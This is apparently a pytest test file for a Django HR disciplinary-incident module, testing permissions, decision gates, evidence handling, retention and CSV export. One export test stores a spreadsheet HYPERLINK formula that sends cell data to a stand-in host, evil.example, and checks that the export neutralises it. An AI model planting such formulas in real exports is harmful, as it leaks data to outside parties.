import csv
import io
import json
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone

from chorus.audit.models import AuditEntry
from chorus.common.errors import InvalidInput
from chorus.incidents import services as S
from chorus.incidents.models import Evidence, Incident
from chorus.incidents.seed import demo_png
from chorus.incidents.tests.conftest import make_incident, ready_for_decision

pytestmark = pytest.mark.django_db


@pytest.fixture
def incident(org, hr, employee, matrix):
    return make_incident(org=org, hr=hr, subject=employee.person)


def detail(incident):
    return reverse("incidents:incident-detail", args=[incident.pk])


def test_hr_sees_the_gates_and_what_is_missing(client_for, hr, incident):
    page = client_for(hr).get(detail(incident)).content.decode()
    assert "A decision cannot be recorded yet" in page
    assert "Employee told and heard" in page and "Tell the employee" in page


def test_another_organization_gets_a_404_on_page_and_api(client_for, api_client, outsider,
                                                         incident):
    assert client_for(outsider).get(detail(incident)).status_code == 404
    assert api_client(outsider).get(f"/api/v1/incidents/{incident.pk}").status_code == 404
    assert api_client(outsider).get("/api/v1/incidents").json() == []


def test_a_manager_sees_a_report_incident_only_once_hr_shares_it(client_for, hr, manager,
                                                                  incident):
    assert client_for(manager).get(detail(incident)).status_code == 404
    S.incident_share(incident=incident, actor=hr, manager=manager)
    page = client_for(manager).get(detail(incident))
    assert page.status_code == 200
    assert "Record decision" not in page.content.decode()


def test_hr_cannot_share_with_a_manager_outside_the_chain(org, hr, incident):
    from conftest import make_member

    other = make_member(org=org, key="other_manager", roles=["manager"])
    with pytest.raises(InvalidInput, match="does not manage"):
        S.incident_share(incident=incident, actor=hr, manager=other)


def test_the_employee_sees_their_incident_only_after_being_told_and_can_respond(
        client_for, hr, employee, incident):
    client = client_for(employee)
    assert client.get(detail(incident)).status_code == 404
    S.incident_notify(incident=incident, actor=hr, notice_text="Your post about a customer.")
    page = client.get(detail(incident), follow=True)
    assert "Your response" in page.content.decode()
    url = reverse("incidents:incident-respond", args=[incident.pk])
    empty = client.post(url, {"response-text": ""})
    assert empty.status_code == 422 and "Write your response" in empty.content.decode()
    client.post(url, {"response-text": "The customer had insulted our team first."})
    incident.refresh_from_db()
    assert incident.employee_response.startswith("The customer")
    assert AuditEntry.objects.filter(action="incident.employee_responded").exists()


def test_another_employee_cannot_see_or_answer_it(client_for, hr, employee2, incident):
    S.incident_notify(incident=incident, actor=hr, notice_text="x")
    client = client_for(employee2)
    assert client.get(reverse("incidents:incident-respond", args=[incident.pk])).status_code == 404


def test_deciding_against_the_suggestion_on_the_page_asks_for_a_justification(client_for, hr,
                                                                              incident):
    ready_for_decision(incident, hr=hr)
    url = reverse("incidents:incident-action", args=[incident.pk, "decide"])
    client = client_for(hr)
    refused = client.post(url, {"decide-outcome": "reminder", "decide-justification": ""})
    assert refused.status_code == 422
    assert "Write why" in refused.content.decode()
    incident.refresh_from_db()
    assert not incident.outcome
    data = {"decide-outcome": "reminder",
            "decide-justification": "Deleted at once and apologised to the customer."}
    confirm = client.post(url, data)
    assert confirm.status_code == 200 and "Confirm the decision" in confirm.content.decode()
    incident.refresh_from_db()
    assert not incident.outcome  # the confirmation step records nothing
    client.post(url, {**data, "confirmed": "1"})
    incident.refresh_from_db()
    assert (incident.outcome, incident.deviated) == ("reminder", True)


def test_a_blocked_decision_names_the_missing_gates(client_for, hr, incident):
    url = reverse("incidents:incident-action", args=[incident.pk, "decide"])
    S.incident_notify(incident=incident, actor=hr, notice_text="x")
    response = client_for(hr).post(url, {"decide-outcome": "written_warning"})
    assert response.status_code == 422
    assert "Not yet" in response.content.decode() and "Facts established" in response.content.decode()


def test_a_screenshot_is_hashed_and_served_only_through_an_audited_view(
        client_for, hr, manager, incident):
    png = demo_png()
    client = client_for(hr)
    client.post(reverse("incidents:incident-action", args=[incident.pk, "evidence"]),
                {"evidence-screenshot": SimpleUploadedFile("shot.png", png, content_type="image/png"),
                 "evidence-note": "Captured today"})
    evidence = Evidence.objects.get(incident=incident, kind="screenshot")
    import hashlib

    assert evidence.sha256 == hashlib.sha256(png).hexdigest()
    file_url = reverse("incidents:evidence-file", args=[incident.pk, evidence.pk])
    response = client.get(file_url)
    assert response.status_code == 200 and b"".join(response.streaming_content) == png
    viewed = AuditEntry.objects.filter(action="incident.evidence_viewed")
    assert viewed.count() == 1 and viewed.get().data["evidence"] == evidence.pk
    assert client_for(manager).get(file_url).status_code == 404


def test_a_fake_image_is_refused_with_the_field_named(client_for, hr, incident):
    response = client_for(hr).post(
        reverse("incidents:incident-action", args=[incident.pk, "evidence"]),
        {"evidence-screenshot": SimpleUploadedFile("shot.png", b"<html>not an image</html>")})
    assert response.status_code == 422
    assert "is not a PNG, JPEG, GIF or WebP image" in response.content.decode()
    assert not Evidence.objects.filter(kind="screenshot").exists()


def test_the_list_page_is_scoped_and_its_queries_bounded(client_for, hr, employee, org, matrix,
                                                         django_assert_max_num_queries):
    for n in range(6):
        make_incident(org=org, hr=hr, subject=employee.person, title=f"Case {n}")
    client = client_for(hr)
    with django_assert_max_num_queries(10):
        page = client.get(reverse("incidents:incident-list"))
    assert page.content.decode().count("Case ") == 6


def test_the_matrix_page_shows_the_grid_and_tries_a_case(client_for, hr, matrix):
    client = client_for(hr)
    page = client.get(reverse("incidents:matrix")).content.decode()
    assert page.count("Termination review") >= 5
    result = client.post(reverse("incidents:matrix-try"),
                         {"severity": "medium", "history": "first", "intent": "1", "reach": "1",
                          "remorse": "0", "role": "0"}, HTTP_HX_REQUEST="true")
    body = result.content.decode()
    assert "Final warning" in body and "capped" in body


def test_an_employee_cannot_open_the_matrix_or_the_report(client_for, employee, matrix):
    client = client_for(employee)
    assert client.get(reverse("incidents:matrix")).status_code == 403
    assert client.get(reverse("incidents:consistency")).status_code == 403


def test_the_consistency_report_flags_same_facts_different_outcomes(
        client_for, hr, org, employee, employee2, matrix, django_assert_max_num_queries):
    one = ready_for_decision(make_incident(org=org, hr=hr, subject=employee.person), hr=hr)
    S.incident_decide(incident=one, actor=hr, outcome="written_warning")
    two = ready_for_decision(make_incident(org=org, hr=hr, subject=employee2.person), hr=hr)
    S.incident_decide(incident=two, actor=hr, outcome="coaching",
                      justification="Removed within minutes and apologised in public.")
    client = client_for(hr)
    # The group summary, one page's breakdowns and its outliers, the deviations (issue 13).
    with django_assert_max_num_queries(11):
        page = client.get(reverse("incidents:consistency")).content.decode()
    assert "different outcomes" in page and two.reference in page
    assert "Removed within minutes" in page
    export = client_for(hr).get(reverse("incidents:consistency-csv"))
    assert b"".join(export.streaming_content).decode().count("\n") == 3
    assert AuditEntry.objects.filter(action="incident.consistency_exported").exists()


def test_the_api_creates_decides_and_refuses_like_the_pages(api_client, hr, employee, matrix):
    client = api_client(hr)
    created = client.post("/api/v1/incidents", json.dumps({
        "subject_id": employee.person.pk, "title": "Posted a slur", "text": "something"}),
        content_type="application/json")
    assert created.status_code == 201
    body = created.json()
    assert {g["key"] for g in body["gates"] if not g["ok"] and g["required"]} >= {"facts"}
    refused = client.post(f"/api/v1/incidents/{body['id']}/decision",
                          json.dumps({"outcome": "coaching"}), content_type="application/json")
    assert refused.status_code == 409
    as_employee = api_client(employee).post("/api/v1/incidents", json.dumps({
        "subject_id": employee.person.pk, "title": "x"}), content_type="application/json")
    assert as_employee.status_code == 403


def test_the_employee_responds_through_the_api(api_client, hr, employee, incident):
    S.incident_notify(incident=incident, actor=hr, notice_text="x")
    response = api_client(employee).post(f"/api/v1/incidents/{incident.pk}/response",
                                         json.dumps({"text": "My side."}),
                                         content_type="application/json")
    assert response.status_code == 200 and response.json()["responded_at"]


def test_retention_purges_closed_evidence_but_not_under_legal_hold(
        org, hr, legal, employee, matrix, settings, tmp_path, django_capture_on_commit_callbacks):
    settings.STORAGES = {**settings.STORAGES, "default": {
        "BACKEND": "django.core.files.storage.FileSystemStorage",
        "OPTIONS": {"location": str(tmp_path)}}}
    kept = make_incident(org=org, hr=hr, subject=employee.person, title="Kept")
    gone = make_incident(org=org, hr=hr, subject=employee.person, title="Gone")
    S.evidence_add(incident=gone, actor=hr, screenshot=SimpleUploadedFile(
        "s.png", demo_png(), content_type="image/png"))
    path = gone.evidence.get(kind="screenshot").file.path
    for incident in (kept, gone):
        S.incident_close(incident=incident, actor=hr, note="Could not be substantiated.")
    S.incident_set_legal_hold(incident=kept, actor=legal, hold=True, reason="Pending lawsuit")

    assert S.evidence_purge_expired(now=timezone.now() + timedelta(days=364)) == 0
    from chorus.common.testing import enqueue_and_wait
    from chorus.incidents.tasks import purge_expired_evidence_task

    Incident.objects.filter(pk__in=[kept.pk, gone.pk]).update(
        closed_at=timezone.now() - timedelta(days=366))
    with django_capture_on_commit_callbacks(execute=True):
        result = enqueue_and_wait(purge_expired_evidence_task)
    assert result.return_value == 1
    gone_evidence = list(Evidence.objects.filter(incident=gone))
    assert all(e.purged_at and not e.text and not e.file for e in gone_evidence)
    assert all(len(e.sha256) == 64 for e in gone_evidence)
    import os

    assert not os.path.exists(path)
    assert Evidence.objects.filter(incident=kept, purged_at__isnull=True).exists()
    entry = AuditEntry.objects.get(action="incident.evidence_purged")
    assert entry.target_id == str(gone.pk) and entry.data["items"] == 2


def test_the_consistency_export_neutralizes_formulas_from_hr_imports(
        client_for, hr, org, employee, matrix):
    from chorus.people.models import Department

    department = employee.person.department
    Department.objects.filter(pk=department.pk).update(name="=1+1")
    manager = employee.person.manager
    manager.full_name = '=HYPERLINK("http://evil.example/?x="&A1;"click")'
    manager.save(update_fields=["full_name"])
    decided = ready_for_decision(make_incident(org=org, hr=hr, subject=employee.person), hr=hr)
    S.incident_decide(incident=decided, actor=hr, outcome="written_warning")

    export = client_for(hr).get(reverse("incidents:consistency-csv"))

    rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode(), newline="")))
    assert rows[1][4:6] == ["'=1+1", "'" + manager.full_name]
def test_the_consistency_category_filter_shows_human_labels(client_for, hr, org, employee, matrix):
    one = ready_for_decision(make_incident(org=org, hr=hr, subject=employee.person,
                                           category="competitor_negative"), hr=hr)
    S.incident_decide(incident=one, actor=hr, outcome=one.suggested_response)
    page = client_for(hr).get(reverse("incidents:consistency")).content.decode()
    assert '<option value="competitor_negative" >Negative about a competitor</option>' in page


def test_the_incident_page_lists_steps_in_gate_order_with_links(client_for, hr, incident):
    page = client_for(hr).get(reverse("incidents:incident-detail", args=[incident.pk])).content.decode()
    order = [page.index(f'id="{step}" data-step') for step in
             ("facts", "screen", "response", "assess", "review", "decide")]
    assert order == sorted(order)
    assert 'href="#facts"><strong>Facts established' in page
    assert '<details class="card step" id="facts" data-step open>' in page  # not done: open


def test_a_finished_step_is_collapsed(client_for, hr, incident):
    ready_for_decision(incident, hr=hr)
    page = client_for(hr).get(reverse("incidents:incident-detail", args=[incident.pk])).content.decode()
    assert '<details class="card step" id="facts" data-step>' in page
    assert '<details class="card step card--accent" id="decide" data-step open>' in page


def test_my_cases_lists_only_the_employees_notified_cases_in_plain_words(
        client_for, hr, employee, employee2, incident):
    client = client_for(employee)
    assert "You have no cases" in client.get(reverse("incidents:mine")).content.decode()
    S.incident_notify(incident=incident, actor=hr, notice_text="x")
    page = client.get(reverse("incidents:mine")).content.decode()
    assert incident.title in page and "Waiting for your side" in page
    assert incident.title not in client_for(employee2).get(reverse("incidents:mine")).content.decode()
    nav = client.get("/").content.decode()
    assert 'href="/incidents/mine/"' in nav and ">My cases<" in nav


def test_the_employee_sees_no_hashes_or_matrix_columns_unless_they_open_the_details(
        client_for, hr, employee, incident):
    S.incident_notify(incident=incident, actor=hr, notice_text="x")
    S.evidence_add(incident=incident, actor=hr, text="the post", url="", network="", screenshot=None,
                   note="")
    page = client_for(employee).get(reverse("incidents:incident-respond", args=[incident.pk]))
    body = page.content.decode()
    assert "<summary>Technical details</summary>" in body
    assert '<span class="muted">SHA-256</span>' not in body
    listing = client_for(employee).get(reverse("incidents:incident-list")).content.decode()
    assert "Suggested → decided" not in listing


def test_the_employee_attaches_images_and_asks_for_a_meeting_with_a_representative(
        client_for, hr, employee, outsider, incident):
    S.incident_notify(incident=incident, actor=hr, notice_text="x")
    url = reverse("incidents:incident-respond", args=[incident.pk])
    client = client_for(employee)
    before = incident.evidence.count()
    bad = client.post(url, {"response-text": "My side.", "response-attachments": SimpleUploadedFile(
        "x.png", b"MZ not an image")})
    assert bad.status_code == 422 and "is not a PNG" in bad.content.decode()
    incident.refresh_from_db()
    assert not incident.responded_at and incident.evidence.count() == before  # nothing saved

    client.post(url, {"response-text": "My side.", "response-meeting_requested": "on",
                      "response-representative": "Sam Rivera (works council)",
                      "response-attachments": SimpleUploadedFile("mine.png", demo_png(),
                                                        content_type="image/png")})
    incident.refresh_from_db()
    assert incident.response_meeting_requested
    assert incident.response_representative == "Sam Rivera (works council)"
    evidence = incident.evidence.get(added_by=employee)
    assert evidence.kind == "screenshot" and len(evidence.sha256) == 64
    file_url = reverse("incidents:evidence-file", args=[incident.pk, evidence.pk])
    assert client_for(hr).get(file_url).status_code == 200
    assert client_for(outsider).get(file_url).status_code == 404
    hr_page = client_for(hr).get(reverse("incidents:incident-detail", args=[incident.pk]))
    assert "They asked for a meeting" in hr_page.content.decode()
